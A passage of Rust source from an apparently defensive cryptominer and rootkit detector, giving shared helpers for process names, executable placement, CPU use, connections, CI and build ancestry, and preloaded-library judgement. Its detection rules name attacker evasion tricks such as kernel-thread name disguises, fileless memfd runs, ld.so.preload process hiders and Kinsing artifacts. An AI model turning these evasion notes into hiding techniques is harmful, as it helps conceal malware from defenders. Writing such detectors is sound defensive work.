//! Facts about one process that several runtime detectors weigh: its names, where its executable lives,
//! how much CPU it burned, what it is connected to, and what its command line says about mining.
//!
//! Pure functions of the model and the indicators; each detector combines them into its own finding.
//! A new shared fact goes here when a second detector needs it, not before.

use std::collections::{HashMap, HashSet};

use minetrace_schemas::findings::Severity;
use minetrace_schemas::records::package::{PackageCheck, PackageVerdict};
use minetrace_schemas::records::process::ProcessRecord;
use minetrace_schemas::records::socket::{SocketProto, SocketRecord};
use minetrace_schemas::RawBytes;

use crate::detect::Context;
use crate::indicators::{Kind, MarkerKind, PathClass, ServiceClass};
use crate::model::HostModel;

/// The last path component (the whole input when there is no `/`).
pub fn basename(path: &[u8]) -> &[u8] {
    path.rsplit(|b| *b == b'/').next().unwrap_or(path)
}

/// Host text for an evidence line: quoted, with every byte outside printable ASCII escaped.
pub fn q(text: &str) -> String {
    format!("\"{}\"", minetrace_schemas::escape_bytes(text.as_bytes()))
}

/// Lossy, lowercase text of host bytes, for matching against indicator lists only.
pub fn lower(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).to_ascii_lowercase()
}

/// The names a process goes by, lowercase: exe basename, `comm`, and `argv[0]`'s basename.
#[derive(Debug, Default)]
pub struct Names {
    pub exe: Option<String>,
    pub comm: String,
    pub argv0: Option<String>,
    /// `argv[0]` exactly as given (lowercase), e.g. `[kworker/0:2]` or `/usr/sbin/httpd`.
    pub argv0_full: Option<String>,
}

impl Names {
    pub fn of(p: &ProcessRecord) -> Names {
        let argv = p.argv();
        let argv0 = argv.first().filter(|a| !a.is_empty());
        Names {
            exe: p.exe.as_ref().map(|e| lower(basename(e.path.as_bytes()))),
            comm: lower(p.comm.as_bytes()),
            argv0: argv0.map(|a| {
                let first_word = a.split(|b| *b == b' ').next().unwrap_or(a);
                lower(basename(first_word))
                    .trim_start_matches('-')
                    .to_owned()
            }),
            argv0_full: argv0.map(|a| lower(a)),
        }
    }

    /// Every distinct non-empty name.
    pub fn all(&self) -> Vec<&str> {
        let mut out: Vec<&str> = Vec::new();
        for n in [
            self.exe.as_deref(),
            Some(self.comm.as_str()),
            self.argv0.as_deref(),
        ]
        .into_iter()
        .flatten()
        {
            if !n.is_empty() && !out.contains(&n) {
                out.push(n);
            }
        }
        out
    }
}

/// Whether `name` is the indicator value itself or the value followed by digits only (Kinsing drops
/// `kdevtmpfsi206653195` next to `kdevtmpfsi`).
pub fn name_matches(name: &str, value: &str) -> bool {
    match name.strip_prefix(value) {
        Some("") => true,
        Some(rest) => rest.bytes().all(|b| b.is_ascii_digit()),
        None => false,
    }
}

/// The first of a process's names found in the indicator set `kind`, with the name that matched.
pub fn name_in<'a>(ctx: &'a Context, kind: Kind, names: &Names) -> Option<(String, &'a str)> {
    for n in names.all() {
        if let Some(v) = ctx.iocs.set(kind).find(|v| name_matches(n, v)) {
            return Some((n.to_owned(), v));
        }
    }
    None
}

/// The network service a process is (`services.txt`): by its command line, else by its names.
pub fn service_of<'a>(
    iocs: &'a crate::indicators::Indicators,
    p: &ProcessRecord,
    names: &Names,
) -> Option<&'a crate::indicators::Service> {
    let cmdline: Vec<u8> = p
        .cmdline
        .as_bytes()
        .iter()
        .map(|b| if *b == 0 { b' ' } else { *b })
        .collect();
    iocs.services().identify(&names.all(), &lower(&cmdline))
}

/// Whether a path is in a path class (`system`, `temp`, ...: [`crate::indicators::PathClasses`]).
pub fn under(ctx: &Context, class: PathClass, path: &[u8]) -> bool {
    ctx.iocs.paths().is(class, path)
}

pub use crate::indicators::paths::has_hidden_component;

/// Whether a path is in a home directory (path class `home`).
pub fn in_home(ctx: &Context, path: &[u8]) -> bool {
    ctx.iocs.paths().is(PathClass::Home, path)
}

/// The executable's path as the process itself sees it: a process in a chroot or container (its `root`
/// link is not `/`) shows `/proc/PID/exe` with the root's path in front, which says where the container
/// lives, not where the program sits inside it.
pub fn exe_path(p: &ProcessRecord) -> Option<&[u8]> {
    let path = p.exe.as_ref()?.path.as_bytes();
    let root = p
        .root
        .as_ref()
        .map(|r| r.as_bytes())
        .filter(|r| !r.is_empty() && *r != b"/");
    match root {
        Some(r) => {
            let r = r.strip_suffix(b"/").unwrap_or(r);
            Some(
                path.strip_prefix(r)
                    .filter(|rest| rest.first() == Some(&b'/'))
                    .unwrap_or(path),
            )
        }
        None => Some(path),
    }
}

/// The process's root directory when it is not the host's `/` (a chroot or a container), as the collector
/// read `/proc/PID/root`.
pub fn own_root(p: &ProcessRecord) -> Option<&[u8]> {
    p.root
        .as_ref()
        .map(|r| r.as_bytes())
        .map(|r| r.strip_suffix(b"/").unwrap_or(r))
        .filter(|r| !r.is_empty())
}

/// Scripts a shell or language interpreter process runs, as paths of the host: `bash /x/run` and
/// `python3 x.py` (resolved against its working directory), or what `sh -c TEXT` runs. The path a
/// process names inside its own root is put under that root. Empty for other processes.
pub fn scripts_run(p: &ProcessRecord) -> Vec<Vec<u8>> {
    use crate::parse::shell_line::{self, InterpreterRun};
    match shell_line::interpreter_run(program_name(p), &p.argv()) {
        Some(InterpreterRun::Script(s)) => host_path(p, s).into_iter().collect(),
        Some(InterpreterRun::Inline(text)) => shell_line::analyze(text)
            .ran
            .iter()
            .filter(|r| !r.sourced && r.path.starts_with(b"/"))
            .filter_map(|r| host_path(p, &r.path))
            .collect(),
        None => Vec::new(),
    }
}

/// The script file an interpreter process runs, as a path of the host (`bash /x/run`, `python3 x.py`
/// against its working directory); `None` for inline program text (`python3 -c TEXT` is no shell
/// text to read paths from), stdin, a module, or a process that is no interpreter.
pub fn script_file(p: &ProcessRecord) -> Option<Vec<u8>> {
    use crate::parse::shell_line::{self, InterpreterRun};
    match shell_line::interpreter_run(program_name(p), &p.argv())? {
        InterpreterRun::Script(s) => host_path(p, s),
        InterpreterRun::Inline(_) => None,
    }
}

/// The basename of a process's executable as the kernel names it (empty when unreadable).
fn program_name(p: &ProcessRecord) -> &[u8] {
    p.exe
        .as_ref()
        .map(|e| basename(e.path.as_bytes()))
        .unwrap_or_default()
}

/// A path a process names, as a path of the host: an absolute one under the process's own root, a
/// relative one against its working directory (which the kernel shows as a host path).
fn host_path(p: &ProcessRecord, path: &[u8]) -> Option<Vec<u8>> {
    if path.starts_with(b"/") {
        Some(match own_root(p) {
            Some(r) if !path.starts_with(r) => [r, path].concat(),
            _ => path.to_vec(),
        })
    } else {
        let cwd = p.cwd.as_ref()?.as_bytes();
        let rel = path.strip_prefix(b"./").unwrap_or(path);
        Some([cwd.strip_suffix(b"/").unwrap_or(cwd), b"/", rel].concat())
    }
}

/// The nearest ancestor (up to 32 levels) that is a build tool (`build_tool`: cargo, make, go, a
/// compiler): a test or build binary it started runs from temporary directories by design. A network
/// service met first ends the walk: what a service (Tomcat's `java`, `postgres`, `node`) started is the
/// service's doing, never a compile, whatever builds sit above the service. A "build tool" that itself
/// runs from a drop place ([`OddPlace::weak`] aside: `/tmp/.x/make`) is the attacker's name for its
/// launcher, not a compiler, and ends the walk too.
pub fn build_ancestor(ctx: &Context, p: &ProcessRecord) -> Option<String> {
    let mut pid = p.ppid;
    for _ in 0..32 {
        if pid <= 1 {
            return None;
        }
        let q = ctx.model.process(pid)?;
        let names = Names::of(q);
        if let Some((name, _)) = name_in(ctx, Kind::BuildTool, &names) {
            let dropped = odd_places(ctx, q).iter().any(|r| !r.weak());
            return (!dropped).then_some(name);
        }
        if service_of(ctx.iocs, q, &names).is_some() {
            return None;
        }
        pid = q.ppid;
    }
    None
}

/// The CI executor (a `ci` service: Jenkins, a GitLab or GitHub runner) whose job a process is part of:
/// the nearest such ancestor (up to 32 levels), met before any other network service, and not itself in
/// a drop place (an attacker's `/tmp/.x/gitlab-runner` is its name for a launcher). A CI executor runs
/// what its users push by design; what a service it does not own started is that service's doing.
pub fn ci_executor(ctx: &Context, p: &ProcessRecord) -> Option<String> {
    let mut pid = p.ppid;
    for _ in 0..32 {
        if pid <= 1 {
            return None;
        }
        let q = ctx.model.process(pid)?;
        if let Some(svc) = service_of(ctx.iocs, q, &Names::of(q)) {
            let dropped = odd_places(ctx, q).iter().any(|r| !r.weak());
            return (svc.is(ServiceClass::Ci) && !dropped).then(|| svc.name.clone());
        }
        pid = q.ppid;
    }
    None
}

/// A CI job step: a shell or interpreter running a job script file (`sh -xe /tmp/jenkins123.sh`,
/// `bash /tmp/build_script_*/script.sh`: never inline `sh -c TEXT`) under a CI executor
/// ([`ci_executor`]), in the job's environment (a `ci_job_env` variable the executor sets for each job:
/// BUILD_TAG, CI_JOB_ID, GITHUB_RUN_ID; what an exploit of the executor starts inherits the executor's
/// own environment, which has none), from a script owned by the step's account or root, with no miner
/// sign of its own. Returns the executor and the script.
pub fn ci_job_step(ctx: &Context, p: &ProcessRecord) -> Option<(String, Vec<u8>)> {
    let script = script_file(p)?;
    let job_env = p.env.iter().any(|e| {
        ctx.iocs
            .contains(Kind::CiJobEnv, &String::from_utf8_lossy(e.name.as_bytes()))
    });
    let owner_ok = ctx
        .model
        .file(&script)
        .is_none_or(|f| f.uid == p.uid.real || f.uid == 0);
    if !job_env || !owner_ok || miner_sign(ctx, p) {
        return None;
    }
    Some((ci_executor(ctx, p)?, script))
}

/// Whether a program legitimately burns CPU: a build tool or another `cpu_heavy_tool`.
pub fn cpu_heavy(ctx: &Context, names: &Names) -> bool {
    name_in(ctx, Kind::BuildTool, names).is_some()
        || name_in(ctx, Kind::CpuHeavyTool, names).is_some()
}

/// A place a process's executable sits in that programs do not normally run from ([`odd_places`]).
/// Judged by kind, never by the text rendered for evidence (which embeds host paths).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum OddPlace {
    /// Runs from a memfd (fileless).
    Memfd,
    /// Deleted from disk while it runs (not a package upgrade's leftover).
    Deleted,
    /// In shared memory (path class `shm`).
    Shm,
    /// In a temp directory (path class `temp`).
    Temp,
    /// In a configuration, log or spool directory (path class `nonexec`).
    Nonexec,
    /// Chrooted into a root filesystem in a temp or hidden directory (the root's path).
    KitRoot(Vec<u8>),
    /// In a hidden directory or a hidden file; `home` when inside a home.
    Hidden { home: bool },
    /// In a home directory (and no other odd place).
    Home,
}

impl OddPlace {
    /// Homes, hidden ones included, hold developers' tools (`~/.cargo/bin`, `~/.vscode-server`) as often
    /// as droppers.
    pub fn weak(&self) -> bool {
        matches!(self, OddPlace::Home | OddPlace::Hidden { home: true })
    }

    /// A place programs never run from: memfd, deleted, shared memory, a configuration directory, a
    /// kit's root, hidden outside homes. A plain temp directory or a home is not enough.
    pub fn severe(&self) -> bool {
        !self.weak() && *self != OddPlace::Temp
    }

    /// Places a build writes and runs its test binaries in (temp and hidden temp directories such as
    /// `/tmp/.tmpQ2fK7p`, `/tmp/go-build*`, homes, a binary rebuilt while it runs): what a build tool
    /// ancestor explains ([`Placement`]). Memory, configuration directories and a kit's root it does not.
    fn built_there(&self) -> bool {
        matches!(
            self,
            OddPlace::Temp | OddPlace::Hidden { .. } | OddPlace::Home | OddPlace::Deleted
        )
    }
}

impl std::fmt::Display for OddPlace {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            OddPlace::Memfd => f.write_str("runs from a memfd (fileless)"),
            OddPlace::Deleted => f.write_str("executable deleted from disk"),
            OddPlace::Shm => f.write_str("executable in shared memory"),
            OddPlace::Temp => f.write_str("executable in a temp directory"),
            OddPlace::Nonexec => f.write_str(
                "executable in a configuration, log or spool directory, where programs do not belong",
            ),
            OddPlace::KitRoot(root) => write!(
                f,
                "runs chrooted into {}, a root filesystem in a temp or hidden directory",
                RawBytes::from(root.as_slice()).escaped()
            ),
            OddPlace::Hidden { home: true } => {
                f.write_str("executable in a hidden directory of a home")
            }
            OddPlace::Hidden { home: false } => {
                f.write_str("executable in a hidden directory or hidden file")
            }
            OddPlace::Home => f.write_str("executable in a home directory"),
        }
    }
}

/// Where a process's executable sits that programs do not normally run from; empty when it does not.
/// Deleted executables under a system directory (package upgrades) are not odd by themselves.
pub fn odd_places(ctx: &Context, p: &ProcessRecord) -> Vec<OddPlace> {
    let (Some(exe), Some(path)) = (&p.exe, exe_path(p)) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    if exe.memfd {
        out.push(OddPlace::Memfd);
        return out;
    }
    if exe.deleted && !upgrade_like(ctx, path) {
        out.push(OddPlace::Deleted);
    }
    if under(ctx, PathClass::Shm, path) {
        out.push(OddPlace::Shm);
    } else if under(ctx, PathClass::Temp, path) {
        out.push(OddPlace::Temp);
    } else if under(ctx, PathClass::Nonexec, path) {
        out.push(OddPlace::Nonexec);
    }
    if let Some(root) = own_root(p).filter(|r| under(ctx, PathClass::KitProne, r)) {
        out.push(OddPlace::KitRoot(root.to_vec()));
    }
    let home = in_home(ctx, path);
    if under(ctx, PathClass::Hidden, path) {
        out.push(OddPlace::Hidden { home });
    } else if home && out.is_empty() {
        out.push(OddPlace::Home);
    }
    out
}

/// Where a process runs from, judged once for every rule that weighs "an unowned program in a drop place
/// holds or offers a connection" (`MT-RUN-020`, `-021`, `-022`, `-023`, `-024`, `-025`, `-032`): its odd
/// places, and the build tool whose test or build step it is. A build tool's descendant that shows no
/// miner sign (miner command line or name, kernel-thread disguise) runs from temp, hidden temp and home
/// directories by design — `cargo test` from `/tmp/.tmpXXXXXX`, `go test` from `/tmp/go-build*` — and
/// talks to the service containers and servers its tests start: those places do not count. What it
/// connects to is still judged on its own (pool domains, IRC, miner code).
#[derive(Debug, Clone, Default)]
pub struct Placement {
    pub odd: Vec<OddPlace>,
    /// The build tool ancestor that explains the places [`OddPlace::built_there`], when it does.
    pub built_by: Option<String>,
}

impl Placement {
    pub fn of(ctx: &Context, p: &ProcessRecord) -> Placement {
        let odd = odd_places(ctx, p);
        let built_by = if odd.iter().any(OddPlace::built_there) {
            build_step(ctx, p)
        } else {
            None
        };
        Placement { odd, built_by }
    }

    /// The odd places that count: all of them, minus what the build tool ancestor explains.
    pub fn unexplained(&self) -> impl Iterator<Item = &OddPlace> {
        self.odd
            .iter()
            .filter(|o| self.built_by.is_none() || !o.built_there())
    }

    /// A drop place: an unexplained odd place beyond a home.
    pub fn dropped(&self) -> bool {
        self.unexplained().any(|o| !o.weak())
    }

    /// A place programs never run from ([`OddPlace::severe`]), unexplained.
    pub fn severe(&self) -> bool {
        self.unexplained().any(OddPlace::severe)
    }

    /// Evidence: every odd place, and the build tool when it explains some.
    pub fn lines(&self) -> Vec<String> {
        let mut out: Vec<String> = self.odd.iter().map(ToString::to_string).collect();
        if let Some(tool) = &self.built_by {
            out.push(format!(
                "started by the build tool {} with no miner sign: a test or build step, which runs from temp and home directories by design",
                q(tool)
            ));
        }
        out
    }
}

/// The build tool whose test or build step the process is: its [`build_ancestor`], unless the process
/// itself shows a miner sign ([`miner_sign`]).
pub fn build_step(ctx: &Context, p: &ProcessRecord) -> Option<String> {
    if miner_sign(ctx, p) {
        return None;
    }
    build_ancestor(ctx, p)
}

/// Something about the process itself says it mines: a miner command line, a miner name or a kernel
/// thread's disguise. Such a process is never excused by what started it.
fn miner_sign(ctx: &Context, p: &ProcessRecord) -> bool {
    let names = Names::of(p);
    !miner_cmdline(ctx, p).is_empty()
        || name_in(ctx, Kind::MinerName, &names).is_some()
        || kthread_disguise(ctx, p, &names).is_some()
}

/// A person's own install of a program: the process runs as a person (not root, not a service account:
/// [`crate::model::accounts::Accounts::is_service`]) from a visible directory of that person's own home
/// (`~/bin/dockerd` of rootless Docker, `~/.local/bin` counts as visible), from a file that person owns,
/// and shows no miner sign. Returns the account name. What such a program is called says nothing about
/// hiding: a masquerade's copy sits in a hidden or temp place, or runs as root or a service.
pub fn own_install(ctx: &Context, p: &ProcessRecord) -> Option<String> {
    let uid = p.uid.real;
    let path = exe_path(p)?;
    let accounts = &ctx.model.accounts;
    let account = accounts.by_uid(uid).filter(|a| a.uid != 0)?;
    let home_owner = accounts.owner_of_path(path)?;
    if home_owner.uid != uid
        || accounts.is_service(ctx.iocs, &account.name)
        || under(ctx, PathClass::KitProne, path)
        || p.exe.as_ref().is_some_and(|e| e.deleted || e.memfd)
        || own_root(p).is_some()
        || ctx.model.file(path).is_some_and(|f| f.uid != uid)
        || miner_sign(ctx, p)
    {
        return None;
    }
    Some(String::from_utf8_lossy(&account.name).into_owned())
}

/// A drop place beyond a home, unexplained by a build tool ancestor ([`Placement::dropped`]).
pub fn strongly_odd(ctx: &Context, p: &ProcessRecord) -> bool {
    Placement::of(ctx, p).dropped()
}

/// What a preloaded library's path says about it, judged once for `/etc/ld.so.preload` (`MT-PER-040`)
/// and `LD_PRELOAD` (`MT-RUN-044`).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PreloadLib {
    /// The `preload_bad` value its path contains: a process-hiding library's name (libprocesshider,
    /// Kinsing's libsystem.so).
    pub hider: Option<String>,
    /// The `preload_benign` value its file name starts with: a library operators preload on purpose
    /// (allocators, the Snoopy audit logger, test helpers).
    pub tool: Option<String>,
    /// It sits where kits are dropped and libraries are not installed: a temp, hidden or shared-memory
    /// place or a configuration directory (`/etc/data/libsystem.so`).
    pub dropped: bool,
    /// It sits in a home directory: odd for a system-wide hook (`/etc/ld.so.preload`), but where users
    /// keep their own builds (`~/miniconda3/lib/libjemalloc.so.2`, `~/spack/.../libdarshan.so`), so it is
    /// no evidence in the library itself ([`PreloadJudgement::intrinsic`]; review of train 2, item 7).
    pub home: bool,
}

impl PreloadLib {
    pub fn of(ctx: &Context, lib: &[u8]) -> PreloadLib {
        let l = lower(lib);
        let base = lower(basename(lib));
        PreloadLib {
            hider: ctx
                .iocs
                .set(Kind::PreloadBad)
                .find(|b| l.contains(*b))
                .map(str::to_owned),
            tool: ctx
                .iocs
                .set(Kind::PreloadBenign)
                .find(|b| base.starts_with(*b))
                .map(str::to_owned),
            dropped: [PathClass::KitProne, PathClass::Shm, PathClass::Nonexec]
                .into_iter()
                .any(|c| under(ctx, c, lib)),
            home: in_home(ctx, lib),
        }
    }

    /// A preload tool's library in a library directory: preloaded on purpose, whoever installed it.
    pub fn tool_in_place(&self) -> bool {
        self.tool.is_some() && self.hider.is_none() && !self.dropped && !self.home
    }
}

/// What a preloaded library is, judged once for every rule that meets one — an `/etc/ld.so.preload`
/// entry (`MT-PER-040`), `LD_PRELOAD` set in a start-up file (`MT-PER-041`) or in a running process's
/// environment (`MT-RUN-044`) — so that a library is the same thing wherever it is preloaded from.
#[derive(Debug, Clone)]
pub struct PreloadJudgement<'a> {
    /// What its path says ([`PreloadLib`]).
    pub path: PreloadLib,
    /// The family whose `preload` or `path` marker names it.
    pub family: Option<String>,
    /// The package check the collector made of it (`/etc/ld.so.preload`'s and process environments'
    /// libraries are checked).
    pub check: Option<&'a PackageCheck>,
    /// Critical for a family's library; low when its package vouches for it (digest matches) and it
    /// bears no hider's name; medium for an unowned library named like a preload tool in a library
    /// directory (a review item: a hider can take any name); high for anything else — an unowned
    /// library, a hider's name, a tool's name in a drop place, a packaged file whose bytes differ.
    pub severity: Severity,
}

impl PreloadJudgement<'_> {
    /// Its package vouches for it: listed, same digest.
    pub fn packaged(&self) -> bool {
        self.check
            .is_some_and(|c| c.verdict == PackageVerdict::Match)
    }

    /// What the library itself shows, beyond no one vouching for it: a family's marker, a hider's
    /// name, a drop place (temp, hidden, shared-memory, configuration), or a packaged file whose bytes
    /// differ from its package's. Without such evidence an unvouched library is a review item, never an
    /// artifact (`/opt/<vendor>/lib/*.so`, APM agents and HPC runtimes are preloaded by name every day;
    /// a home alone is not such evidence: users preload their own conda or spack builds).
    pub fn intrinsic(&self) -> bool {
        self.family.is_some()
            || self.path.hider.is_some()
            || self.path.dropped
            || self
                .check
                .is_some_and(|c| c.verdict == PackageVerdict::Mismatch)
    }

    /// Evidence: what the judgement rests on (family, hider's or tool's name, place, package check).
    pub fn lines(&self, lib: &[u8]) -> Vec<String> {
        let mut out = Vec::new();
        if let Some(m) = &self.family {
            out.push(format!("library path is a known {m} rootkit location"));
        }
        if let Some(h) = &self.path.hider {
            out.push(format!("{h} is a known process-hiding library"));
        }
        match &self.path.tool {
            Some(t) if self.severity == Severity::Medium => out.push(format!(
                "named like {t}, a library operators preload on purpose (allocator, audit logger, test helper), in a library directory, but no package vouches for it: review whether it is that tool"
            )),
            Some(_) if self.path.dropped || self.path.home => out.push(
                "named like a preload tool's library, but it sits in a temp, hidden, configuration or home place".into(),
            ),
            _ => {}
        }
        match self.check {
            Some(c) => out.push(format!(
                "package check: {:?}{}",
                c.verdict,
                c.package
                    .as_deref()
                    .map(|p| format!(
                        " (package {})",
                        minetrace_schemas::escape_bytes(p.as_bytes())
                    ))
                    .unwrap_or_default()
            )),
            None => out.push(format!(
                "no package is known to own {}",
                minetrace_schemas::escape_bytes(lib)
            )),
        }
        out
    }
}

/// Judges a preloaded library of the host's files ([`PreloadJudgement`]): its path, a family marker, its
/// package check.
pub fn judge_preload<'a>(ctx: &Context<'a>, lib: &[u8]) -> PreloadJudgement<'a> {
    judge_preload_in(ctx, lib, true)
}

/// [`judge_preload`] for a library named by a process that sees the host's files or not
/// ([`sees_host_files`]): a container's library is judged by its path alone — the host's package check
/// and file at that path are another file's.
pub fn judge_preload_in<'a>(
    ctx: &Context<'a>,
    lib: &[u8],
    host_files: bool,
) -> PreloadJudgement<'a> {
    let model: &'a HostModel = ctx.model;
    let family = ctx
        .iocs
        .markers(MarkerKind::Preload)
        .find(|m| m.value.as_bytes() == lib)
        .map(|m| m.family.clone())
        .or_else(|| crate::detect::footholds::common::family_of_path(ctx.iocs, lib));
    let check = model.integrity_check(lib).filter(|_| host_files);
    let path = PreloadLib::of(ctx, lib);
    let packaged = check.is_some_and(|c| c.verdict == PackageVerdict::Match);
    let tampered = check.is_some_and(|c| c.verdict == PackageVerdict::Mismatch);
    let severity = if family.is_some() {
        Severity::Critical
    } else if packaged && path.hider.is_none() {
        Severity::Low
    } else if path.tool_in_place() && !tampered {
        Severity::Medium
    } else {
        Severity::High
    };
    PreloadJudgement {
        path,
        family,
        check,
        severity,
    }
}

/// Whether a process sees the host's files at the paths it names: not chrooted, and in the mount namespace
/// of pid 1 (the host's init) when both are known. A container's process names its own filesystem's
/// files: the host's file at that path, and the host's package check of it, are another file's.
pub fn sees_host_files(model: &HostModel, p: &ProcessRecord) -> bool {
    let mnt = |q: &ProcessRecord| {
        q.namespaces
            .iter()
            .find(|n| n.kind == "mnt")
            .map(|n| n.inode)
    };
    let host = model.process(1).and_then(mnt);
    own_root(p).is_none() && !matches!((mnt(p), host), (Some(a), Some(b)) if a != b)
}

/// A deleted executable under a system directory, not hidden and not in temp: what a package upgrade
/// leaves behind while the old binary still runs.
pub fn upgrade_like(ctx: &Context, path: &[u8]) -> bool {
    under(ctx, PathClass::System, path)
        && !under(ctx, PathClass::Hidden, path)
        && !under(ctx, PathClass::Temp, path)
}

/// Whether the package database vouches for this exact file (digest matches).
pub fn package_owned(model: &HostModel, path: &[u8]) -> bool {
    model.packages.iter().any(|c| {
        (c.path.as_bytes() == path || c.listed_as.as_ref().is_some_and(|l| l.as_bytes() == path))
            && c.verdict == PackageVerdict::Match
    })
}

/// A kernel thread: no executable and a child of kthreadd (or kthreadd itself).
pub fn is_kernel_thread(p: &ProcessRecord) -> bool {
    p.exe.is_none() && (p.ppid == 2 || p.pid == 2 || (p.ppid == 0 && p.pid != 1))
}

/// How a user process wears a kernel thread's clothes ([`kthread_disguise`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct KthreadDisguise {
    /// `argv[0]` in the bracketed form `ps` shows kernel threads in (`[kworker/0:2]`).
    pub bracketed: Option<String>,
    /// A name of the process (comm, `argv[0]` inside its brackets, the executable's name) and the
    /// `kthread_name` prefix it starts with (`kswapd0`, `kworker`).
    pub name: Option<(String, String)>,
}

/// A process that is not a kernel thread ([`is_kernel_thread`]: no executable, child of kthreadd) but
/// looks like one: a bracketed `argv[0]` or a name a kernel thread's starts with. The one test every
/// detector reads (a miner's favourite disguise: `[kswapd0]`, `kworkerds`).
pub fn kthread_disguise(
    ctx: &Context,
    p: &ProcessRecord,
    names: &Names,
) -> Option<KthreadDisguise> {
    if is_kernel_thread(p) {
        return None;
    }
    let bracketed = names
        .argv0_full
        .as_deref()
        .filter(|a| a.len() > 2 && a.starts_with('[') && a.ends_with(']'));
    let inner = bracketed.map(|a| a.trim_start_matches('[').trim_end_matches(']'));
    let name = [Some(names.comm.as_str()), inner, names.exe.as_deref()]
        .into_iter()
        .flatten()
        .find_map(|n| {
            ctx.iocs
                .set(Kind::KthreadName)
                .find(|k| n.starts_with(*k))
                .map(|k| (n.to_owned(), k.to_owned()))
        });
    if bracketed.is_none() && name.is_none() {
        return None;
    }
    Some(KthreadDisguise {
        bracketed: bracketed.map(str::to_owned),
        name,
    })
}

/// CPU use over a process's lifetime.
#[derive(Debug, Clone, Copy)]
pub struct CpuUse {
    pub cpu_secs: f64,
    pub elapsed_secs: f64,
    /// Cores' worth of CPU: 1.0 is one core busy the whole lifetime.
    pub share: f64,
}

/// `(utime + stime) / elapsed`, elapsed from the start ticks and the host's uptime.
pub fn cpu_use(model: &HostModel, p: &ProcessRecord) -> Option<CpuUse> {
    let hz = model.host.clock_ticks_per_sec;
    if hz == 0 {
        return None;
    }
    let hz = hz as f64;
    let started = p.start_ticks as f64 / hz;
    let elapsed = model.host.uptime_secs - started;
    if !elapsed.is_finite() || elapsed <= 0.0 {
        return None;
    }
    let cpu_secs = p.utime_ticks.saturating_add(p.stime_ticks) as f64 / hz;
    Some(CpuUse {
        cpu_secs,
        elapsed_secs: elapsed,
        share: cpu_secs / elapsed,
    })
}

/// Lifetime share at or above which a process counts as busy, and the least CPU time that makes it count.
pub const BUSY_SHARE: f64 = 0.5;
pub const BUSY_MIN_CPU_SECS: f64 = 3.0;

/// CPU use when the process has kept at least half a core busy over a lifetime long enough to mean it.
pub fn busy(model: &HostModel, p: &ProcessRecord) -> Option<CpuUse> {
    cpu_use(model, p).filter(|c| c.share >= BUSY_SHARE && c.cpu_secs >= BUSY_MIN_CPU_SECS)
}

pub fn describe_cpu(c: &CpuUse) -> String {
    format!(
        "used {:.0} s of CPU in {:.0} s alive ({:.0}% of one core over its lifetime)",
        c.cpu_secs,
        c.elapsed_secs,
        c.share * 100.0
    )
}

/// Splits `IP:PORT` / `[v6]:PORT` into the address text (without brackets) and the port.
pub fn split_addr(addr: &str) -> Option<(&str, u16)> {
    let (ip, port) = addr.rsplit_once(':')?;
    let ip = ip
        .strip_prefix('[')
        .and_then(|i| i.strip_suffix(']'))
        .unwrap_or(ip);
    Some((ip, port.parse().ok()?))
}

fn unspecified(ip: &str) -> bool {
    ip.is_empty()
        || ip == "0.0.0.0"
        || ip == "::"
        || ip.chars().all(|c| c == '0' || c == ':' || c == '.')
}

/// An outbound connection of a process: the socket and its remote address split.
#[derive(Debug, Clone)]
pub struct Conn<'a> {
    pub socket: &'a SocketRecord,
    pub ip: String,
    pub port: u16,
}

/// Outbound TCP/UDP connections by holding pid. Sockets whose local port is listening in the same network
/// namespace are the server side of an accepted connection and are left out; loopback peers are kept
/// (a local proxy, or in tests a stand-in for an internet host).
pub fn connections_by_pid(model: &HostModel) -> HashMap<i32, Vec<Conn<'_>>> {
    let mut listening: HashSet<(u64, u16)> = HashSet::new();
    for s in &model.sockets {
        if s.state == "LISTEN" {
            if let Some((_, port)) = split_addr(&s.local) {
                listening.insert((s.netns, port));
            }
        }
    }
    let mut out: HashMap<i32, Vec<Conn>> = HashMap::new();
    for s in &model.sockets {
        if matches!(
            s.proto,
            SocketProto::Unix | SocketProto::Raw | SocketProto::Raw6
        ) || s.state == "LISTEN"
        {
            continue;
        }
        let Some((ip, port)) = split_addr(&s.remote) else {
            continue;
        };
        if port == 0 || unspecified(ip) {
            continue;
        }
        if let Some((_, lport)) = split_addr(&s.local) {
            if listening.contains(&(s.netns, lport)) {
                continue;
            }
        }
        for pid in &s.pids {
            out.entry(*pid).or_default().push(Conn {
                socket: s,
                ip: ip.to_owned(),
                port,
            });
        }
    }
    out
}

/// Distinct peer *addresses* a process must dial on the port it listens on to count as a node of a
/// peer-to-peer network ([`p2p_node`]). A full node keeps many peers (monerod 12 outbound by default,
/// bitcoind 8 full-relay plus 2 block-relay); a miner holds one pool, two with a failover. One or two
/// "peers" is therefore what a miner shows whose own API port happens to be its pool's port (xmrig's
/// `"http": {"port": 3333}` beside a pool on 3333), never a node's shape.
pub const P2P_MIN_PEERS: usize = 3;

/// Whether a process is a node of a peer-to-peer network — a cryptocurrency full node (monerod, bitcoind)
/// — described for evidence: it listens on a TCP port and dials at least [`P2P_MIN_PEERS`] distinct
/// addresses on that same port, none of them a pool's (a `pool_port`, or an address `/etc/hosts` gives a
/// pool domain: [`hosts_pool_domain`]); it shows no miner sign ([`miner_sign`]: a pool, algorithm or
/// wallet option, a miner's name, a kernel thread's disguise), nor does a configuration it reads
/// ([`own_configs`]: a miner config, or a Monero wallet in it); and it runs from an ordinary place. A full node verifies every block's proof of work with the very code
/// a miner runs (RandomX, CryptoNight) and talks to its peers, not to a pool; mining through it takes
/// options the command line or its config would show (`monerod --start-mining ADDRESS`). Its code is no
/// miner sign; a kit dropped in a temp place, or a miner that merely also listens on a port of its own —
/// its pool's port included — stays what it is.
pub fn p2p_node(ctx: &Context, p: &ProcessRecord) -> Option<String> {
    let mine = |s: &&SocketRecord| s.pids.contains(&p.pid);
    let listening: HashSet<(u64, u16)> = ctx
        .model
        .sockets
        .iter()
        .filter(mine)
        .filter(|s| s.state == "LISTEN" && matches!(s.proto, SocketProto::Tcp | SocketProto::Tcp6))
        .filter_map(|s| split_addr(&s.local).map(|(_, port)| (s.netns, port)))
        .collect();
    if listening.is_empty() {
        return None;
    }
    // Dialled out (its local port is not the listening one) to a peer's copy of that port.
    let dialled: Vec<(&str, u16)> = ctx
        .model
        .sockets
